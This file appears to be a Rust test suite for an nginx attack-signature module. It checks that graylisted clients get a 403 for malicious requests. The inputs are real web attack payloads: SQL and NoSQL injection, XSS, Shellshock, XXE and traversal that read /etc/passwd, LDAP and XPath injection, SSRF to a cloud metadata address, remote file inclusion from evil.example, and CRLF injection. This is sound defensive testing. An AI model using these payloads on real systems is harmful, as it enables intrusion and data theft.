//! Attack signatures in nginx: a graylisted client is refused only for
//! attack-signed requests (query, headers, cookies and, with
//! `api_abuse_inspect_body on`, the body); `$api_abuse_attack` names the class
//! for every request.

use crate::harness::{http_conf, Nginx};

const PROFILES: &str = "[lists]\ngray = [\"203.0.113.0/24\"]\n";

fn start(name: &str) -> Nginx {
    // The protected locations proxy to a second, unprotected server that
    // answers every request, the way a real backend would.
    let extra = "location /api/ { api_abuse_inspect_body on; client_body_buffer_size 64k; proxy_pass http://127.0.0.1:{port2}; }\n\
                 location /spool/ { api_abuse_inspect_body on; client_body_buffer_size 1k; proxy_pass http://127.0.0.1:{port2}; }\n\
                 location /nobody/ { proxy_pass http://127.0.0.1:{port2}; }";
    let body = format!(
        "{}\nserver {{ listen 127.0.0.1:{{port2}}; location / {{ return 200 \"backend\\n\"; }} }}",
        http_conf("abuse:2m", extra)
    );
    Nginx::start(name, &body, &[("conf/profiles.toml", PROFILES)])
}

fn post(n: &Nginx, path: &str, ip: &str, ctype: &str, body: &str) -> u16 {
    n.request(
        "POST",
        path,
        &[("X-Forwarded-For", ip), ("Content-Type", ctype)],
        Some(body),
    )
    .status
}

#[test]
fn graylisted_client_is_refused_for_attack_signs_only() {
    let n = start("sig-gray");
    let gray = "203.0.113.5";
    let get = |path: &str, headers: &[(&str, &str)]| {
        let mut h = vec![("X-Forwarded-For", gray)];
        h.extend_from_slice(headers);
        n.get(path, &h).status
    };
    assert_eq!(get("/api/users/42?fields=name,email", &[]), 200);
    assert_eq!(get("/api/search?q=O%27Brien%20%26%20sons", &[]), 200);
    assert_eq!(
        get(
            "/api/items?id=1%20UNION%20SELECT%20password%20FROM%20users--",
            &[]
        ),
        403
    );
    assert_eq!(
        get("/api/page?next=%3Cscript%3Ealert(1)%3C/script%3E", &[]),
        403
    );
    assert_eq!(get("/api/file?name=..%2f..%2f..%2fetc%2fpasswd", &[]), 403);
    assert_eq!(
        get(
            "/api/x",
            &[("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")]
        ),
        403
    );
    assert_eq!(
        get("/api/x", &[("Cookie", "session=abc; pref=' or 1=1--")]),
        403
    );
    assert_eq!(get("/.env", &[]), 403);
}

#[test]
fn bodies_are_inspected_where_asked() {
    let n = start("sig-body");
    let gray = "203.0.113.6";
    let json = "application/json";
    assert_eq!(
        post(
            &n,
            "/api/login",
            gray,
            json,
            r#"{"username":"alice","password":"s3cret"}"#
        ),
        200
    );
    assert_eq!(
        post(
            &n,
            "/api/login",
            gray,
            json,
            r#"{"username":{"$ne":null},"password":{"$ne":null}}"#
        ),
        403
    );
    assert_eq!(
        post(
            &n,
            "/api/comment",
            gray,
            "application/x-www-form-urlencoded",
            "text=hello+world&name=O%27Brien"
        ),
        200
    );
    assert_eq!(
        post(
            &n,
            "/api/comment",
            gray,
            "application/x-www-form-urlencoded",
            "text=%3Csvg%2Fonload%3Dalert(1)%3E"
        ),
        403
    );
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    assert_eq!(post(&n, "/api/import", gray, "application/xml", xxe), 403);
    // without api_abuse_inspect_body the body is not read before the decision
    assert_eq!(
        post(
            &n,
            "/nobody/login",
            gray,
            json,
            r#"{"username":{"$ne":null}}"#
        ),
        200
    );
    // a client that is not graylisted is never refused for attack signs
    assert_eq!(
        post(
            &n,
            "/api/login",
            "192.0.2.99",
            json,
            r#"{"username":{"$ne":null}}"#
        ),
        200
    );
    // the access log is written after the response (the backend's line for
    // the same request may come first): wait for the protected server's line
    n.eventually(std::time::Duration::from_secs(3), || {
        n.access_log()
            .lines()
            .any(|l| l.starts_with("192.0.2.99 ") && l.contains("[pass]"))
    });
    let log = n.access_log();
    assert!(log.contains("[block] [gray] [] [nosql]"), "{log}");
    assert!(
        log.contains("[pass] [] [] [nosql]"),
        "attack class named for clean clients too: {log}"
    );
}

/// A body larger than `client_body_buffer_size` is spooled to nginx's
/// temporary file; its first 64 KiB are still inspected. Multipart part
/// headers and XML attribute values are fields too.
#[test]
fn spooled_bodies_part_headers_and_xml_attributes_are_inspected() {
    let n = start("sig-spool");
    let gray = "203.0.113.7";
    let filler = "x".repeat(20_000);
    let clean = format!(r#"{{"comment": "{filler}", "note": "hello"}}"#);
    let attack = format!(r#"{{"q": "1' OR '1'='1' --", "comment": "{filler}"}}"#);
    assert_eq!(post(&n, "/spool/a", gray, "application/json", &clean), 200);
    assert_eq!(post(&n, "/spool/a", gray, "application/json", &attack), 403);
    let part = "--b\r\nContent-Disposition: form-data; name=\"f\"\r\nX-Meta: <script>alert(1)</script>\r\n\r\nhello\r\n--b--\r\n";
    assert_eq!(
        post(&n, "/api/up", gray, "multipart/form-data; boundary=b", part),
        403
    );
    let xml = r#"<?xml version="1.0"?><order id="1' OR '1'='1"><item>book</item></order>"#;
    assert_eq!(post(&n, "/api/order", gray, "application/xml", xml), 403);
    let xml_ok = r#"<?xml version="1.0"?><order id="42" xmlns="http://example.com/ns"><item>O'Brien's book</item></order>"#;
    assert_eq!(post(&n, "/api/order", gray, "application/xml", xml_ok), 200);
}

/// Every header an application reads is a field for LDAP/XPath, NoSQL, XXE
/// and, except the address-carrying ones, SSRF; path parameters too; query
/// strings are checked for scanner probes; an include-named parameter given
/// a remote URL is remote file inclusion; a line break opening an XML text
/// node is header injection.
#[test]
fn headers_paths_and_query_probes_are_fields() {
    let n = start("sig-fields");
    let gray = "203.0.113.8";
    let get = |path: &str, headers: &[(&str, &str)]| {
        let mut h = vec![("X-Forwarded-For", gray)];
        h.extend_from_slice(headers);
        n.get(path, &h).status
    };
    assert_eq!(get("/api/users/42", &[("X-User", "alice")]), 200);
    assert_eq!(
        get("/api/users/42", &[("X-User", "*)(uid=*))(|(uid=*")]),
        403
    );
    assert_eq!(
        get("/api/users/42", &[("X-Sort", "' or name()='admin")]),
        403
    );
    assert_eq!(
        get(
            "/api/users/42",
            &[("X-Hook", "http://169.254.169.254/latest/")]
        ),
        403
    );
    // a developer's Referer carries a local address by design
    assert_eq!(
        get("/api/users/42", &[("Referer", "http://localhost:3000/app")]),
        200
    );
    assert_eq!(get("/api/users/%7B%22$ne%22:null%7D", &[]), 403);
    assert_eq!(get("/api/index.asp?|-|0|404_Object_Not_Found", &[]), 403);
    assert_eq!(
        get(
            "/api/index.php?mosConfig_absolute_path=http://evil.example/",
            &[]
        ),
        403
    );
    assert_eq!(
        get(
            "/api/media?image_path=https://cdn.example.com/logo.png",
            &[]
        ),
        200
    );
    let mail = "<?xml version=\"1.0\"?><mail><to>\r\nBcc: all@evil.example</to></mail>";
    assert_eq!(post(&n, "/api/send", gray, "text/xml", mail), 403);
    let ok = "<?xml version=\"1.0\"?><mail><to>alice@example.com</to><body>Hi,\r\nTo: the team</body></mail>";
    assert_eq!(post(&n, "/api/send", gray, "text/xml", ok), 200);
    let log = n.error_log();
    assert!(
        !log.contains("[alert]") && !log.contains("[emerg]"),
        "{log}"
    );
}

/// A body sent without a content type is split by its shape: a multipart
/// body by its boundary line (a file part's bytes are not inspected, its
/// field's value is), a form whose first name is a bracketed MongoDB
/// operator as a form rather than a JSON array; a header or argument
/// holding a line break written out as text (`\r\n`) before a response
/// header is header injection; a base64 value is read decoded.
#[test]
fn untyped_bodies_and_written_out_line_breaks() {
    let n = start("sig-untyped");
    let gray = "203.0.113.9";
    let raw = |path: &str, body: &str| {
        n.request("POST", path, &[("X-Forwarded-For", gray)], Some(body))
            .status
    };
    let part = |name: &str, value: &str| {
        format!("--gtw\r\nContent-Disposition: form-data; name=\"d\"{name}\r\n\r\n{value}\r\n--gtw--\r\n")
    };
    assert_eq!(raw("/api/up", &part("", "hello world")), 200);
    // The bytes of a file part are not read: SQL in an uploaded text file.
    assert_eq!(
        raw("/api/up", &part("; filename=\"a.txt\"", "' or 1=1 --")),
        200
    );
    assert_eq!(raw("/api/up", &part("", "*)(uid=*))(|(uid=*")), 403);
    assert_eq!(raw("/api/login", "user[$ne]=x&pass[$ne]=x"), 403);
    assert_eq!(raw("/api/login", "[$ne]=1"), 403);
    assert_eq!(raw("/api/list", "[1, 2, 3]"), 200);
    let get = |path: &str, headers: &[(&str, &str)]| {
        let mut h = vec![("X-Forwarded-For", gray)];
        h.extend_from_slice(headers);
        n.get(path, &h).status
    };
    assert_eq!(
        get("/api/go?next=/home%5Cr%5CnSet-Cookie:%20sid=1", &[]),
        403
    );
    assert_eq!(
        get(
            "/api/x",
            &[("X-Note", "a\\r\\nLocation: https://evil.example/")]
        ),
        403
    );
    assert_eq!(get("/api/file?path=C:%5Cnew%5Cnotes.txt", &[]), 200);
    // Base64 that carries text is read decoded (`' or 1=1--`, `../../../etc/passwd`).
    assert_eq!(get("/api/items?q=JyBvciAxPTEtLQ", &[]), 403);
    assert_eq!(
        get(
            "/api/items",
            &[("Cookie", "state=Li4vLi4vLi4vZXRjL3Bhc3N3ZA")]
        ),
        403
    );
    assert_eq!(
        get("/api/items?q=aGVsbG8gd29ybGQ&id=8f3a2c9e1b7d4a60", &[]),
        200
    );
}

/// Sixth round: text a path carries in base64 is read as a value (the
/// standard alphabet keeps its `/` raw in a path, as GoTestWAF sends it),
/// a Referer's query arguments are read as values, a W3C public id in
/// front of a foreign DTD is XXE, a line comment and a line break at a
/// value's start are whitespace to SQL.
#[test]
fn base64_paths_referer_arguments_and_foreign_dtds() {
    let n = start("sig-sixth");
    let gray = "203.0.113.10";
    let get = |path: &str, headers: &[(&str, &str)]| {
        let mut h = vec![("X-Forwarded-For", gray)];
        h.extend_from_slice(headers);
        n.get(path, &h).status
    };
    // `../../../../etc/passwd` and `' or 1=1--`, then a relay-style id.
    assert_eq!(get("/api/Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA", &[]), 403);
    assert_eq!(get("/api/files/JyBvciAxPTEtLQ", &[]), 403);
    assert_eq!(get("/api/node/VXNlcjoxMjM0", &[]), 200);
    let referer = |r: &str| get("/api/items", &[("Referer", r)]);
    assert_eq!(
        referer("https://shop.example.com/item?id=1%20AND%202%3E1"),
        403
    );
    assert_eq!(
        referer("https://www.google.com/search?q=apples+or+oranges"),
        200
    );
    assert_eq!(get("/api/items?id=1%23%0AAND%201%3D1", &[]), 403);
    let dtd = |system: &str| {
        format!("<?xml version=\"1.0\"?><!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"{system}\"><html/>")
    };
    let xml = |body: &str| post(&n, "/api/import", gray, "application/xml", body);
    assert_eq!(xml(&dtd("http://evil.example/x.dtd")), 403);
    assert_eq!(
        xml(&dtd("http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd")),
        200
    );
    let log = n.error_log();
    assert!(
        !log.contains("[alert]") && !log.contains("[emerg]"),
        "{log}"
    );
}
